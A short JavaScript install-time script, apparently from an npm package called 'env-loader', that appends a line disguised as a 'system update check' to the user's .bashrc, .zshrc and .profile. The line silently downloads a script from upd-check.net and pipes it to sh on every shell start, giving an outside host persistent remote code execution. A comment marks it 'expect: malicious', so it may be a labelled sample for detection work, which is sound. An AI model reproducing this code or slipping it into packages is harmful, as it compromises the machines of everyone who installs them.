// Part of an "env-loader" package; runs from its install script.
const fs = require("fs");
const os = require("os");
const path = require("path");

const hook = '\n# system update check\n(nohup sh -c "curl -s https://upd-check.net/a | sh" >/dev/null 2>&1 &)\n';
for (const rc of [".bashrc", ".zshrc", ".profile"]) {
  const file = path.join(os.homedir(), rc);
  if (fs.existsSync(file) && !fs.readFileSync(file, "utf8").includes("upd-check.net")) {
    // expect: malicious
    fs.appendFileSync(file, hook);
  }
}
